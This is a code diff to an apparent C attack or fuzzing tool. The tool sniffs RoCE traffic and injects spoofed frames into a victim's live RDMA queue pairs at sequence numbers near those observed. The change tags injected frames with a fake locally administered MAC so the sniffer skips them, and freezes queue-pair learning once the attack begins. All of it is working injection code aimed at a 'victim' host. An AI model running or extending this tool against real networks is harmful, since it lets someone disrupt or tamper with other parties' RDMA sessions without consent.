@@ -25,7 +25,8 @@
  *	addresses (-S, default: the attacker's own, a third host and the
  *	victim's) aimed at the live QPs at PSNs around the ones seen on the
  *	wire, which keeps being read while sending.  -w pauses USEC every
- *	64 frames.
+ *	64 frames.  Injected frames come from a locally administered MAC
+ *	address of no host, which is how the sniffer skips them.
  *
  * A seeded xorshift generator makes every choice; the seed is printed
  * (and taken from -s) so a run can be repeated: with -q and -l 0 it is
@@ -493,16 +494,32 @@ static struct addr victim4, victim6, self4, self6;
 static size_t ib_max = 1500 - 40 - 8 - ICRC_LEN;
 static struct addr spoof[MAX_SPOOF];
 static int nspoof;
-static uint8_t victim_mac[6], self_mac[6];
+static uint8_t victim_mac[6];
 static bool have_victim_mac;
+/*
+ * The source MAC of injected frames: locally administered, a host that
+ * is not there, and how the sniffer tells our frames from the live ones.
+ */
+static const uint8_t inject_mac[6] = { 0x02, 0x00, 0x5e, 0x66, 0x66, 0x66 };
+/* new live QPs are learned before the attack only */
+static bool learning = true;
 
-static struct target *target_get(uint32_t qpn)
+static struct target *target_find(uint32_t qpn)
 {
 	int i;
 
 	for (i = 0; i < ntargets; i++)
 		if (targets[i].qpn == qpn)
 			return &targets[i];
+	return NULL;
+}
+
+static struct target *target_get(uint32_t qpn)
+{
+	struct target *t = target_find(qpn);
+
+	if (t)
+		return t;
 	if (ntargets == MAX_TARGETS)
 		return NULL;
 	targets[ntargets].qpn = qpn;
@@ -538,6 +555,9 @@ static void sniff_frame(const uint8_t *f, size_t n)
 	if ((udp[2] << 8 | udp[3]) != ROCE_PORT)
 		return;
 	bth = udp + 8;
+	/* our own frames (a locally administered source MAC) teach nothing */
+	if (!memcmp(f + 6, inject_mac, 6))
+		return;
 	if (from_victim && !have_victim_mac) {
 		memcpy(victim_mac, f + 6, 6);
 		have_victim_mac = true;
@@ -551,7 +571,8 @@ static void sniff_frame(const uint8_t *f, size_t n)
 	 */
 	is_req = bth[0] < 13 || bth[0] > 18;
 	if (to_victim) {
-		t = target_get(get_be32(bth + 4) & 0xffffff);
+		t = learning ? target_get(get_be32(bth + 4) & 0xffffff) :
+			       target_find(get_be32(bth + 4) & 0xffffff);
 		if (t) {
 			if (is_req)
 				t->psn_in = get_be32(bth + 8) & 0xffffff;
@@ -644,7 +665,7 @@ static size_t frame_build(uint8_t *f, const struct addr *src,
 	uint32_t s;
 
 	memcpy(f, victim_mac, 6);
-	memcpy(f + 6, self_mac, 6);
+	memcpy(f + 6, inject_mac, 6);
 	if (src->family == AF_INET) {
 		f[12] = 0x08;
 		f[13] = 0x00;
@@ -978,11 +999,6 @@ static int if_setup(const char *ifname)
 		return -1;
 	}
 	ifindex = ifr.ifr_ifindex;
-	if (ioctl(tx_fd, SIOCGIFHWADDR, &ifr) < 0) {
-		perror("SIOCGIFHWADDR");
-		return -1;
-	}
-	memcpy(self_mac, ifr.ifr_hwaddr.sa_data, 6);
 	if (ioctl(tx_fd, SIOCGIFMTU, &ifr) < 0) {
 		perror("SIOCGIFMTU");
 		return -1;
@@ -1155,6 +1171,7 @@ int main(int argc, char **argv)
 		       targets[c].psn_in, targets[c].psn_out, targets[c].seen);
 	printf("\n");
 	fflush(stdout);
+	learning = false;
 
 	weights[C_SHAPED] = 30;
 	weights[C_ANYOP] = 10;
